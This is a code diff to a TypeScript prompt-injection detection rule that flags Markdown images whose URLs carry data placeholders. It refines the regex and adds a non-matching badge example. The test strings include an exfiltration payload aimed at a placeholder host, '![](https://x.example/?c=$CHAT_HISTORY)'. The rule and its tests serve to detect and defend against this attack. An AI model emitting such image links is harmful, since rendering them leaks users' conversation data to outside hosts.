@@ -8,7 +8,7 @@ export const EXFILTRATION_RULES: readonly InjectionRule[] = [
     severity: 'high',
     weight: 0.85,
     keywords: ['!['],
-    pattern: String.raw`!\[[^\]\n]{0,120}\]\(\s?<?(?:https:|http:)?//[^\s)]{1,300}?(?:\{|%7b|\[|<|\$\{?|%24)[a-z_ .-]{1,60}(?:\}|%7d|\]|>)?`,
+    pattern: String.raw`!\[[^\]\n]{0,120}\]\(\s?<?(?:https:|http:)?//[^\s)]{1,300}?(?:\{|%7b|\[|<|\$\{|\$(?=[a-z_])|%24(?=[a-z_]))[a-z_ .-]{1,60}(?:\}|%7d|\]|>)?`,
     languages: ['*'],
     description:
       'A Markdown image whose URL carries a data placeholder ({data}, [SECRET], $CONVERSATION): rendering it leaks data.',
@@ -19,6 +19,7 @@ export const EXFILTRATION_RULES: readonly InjectionRule[] = [
         '![](https://x.example/?c=$CHAT_HISTORY)',
       ],
       noMatch: [
+        '![donate](https://img.shields.io/badge/$-donate-ff69b4.svg)',
         '![logo](https://example.com/logo.png)',
         '![chart](https://cdn.example.com/c.png?w=600&q=80)',
       ],
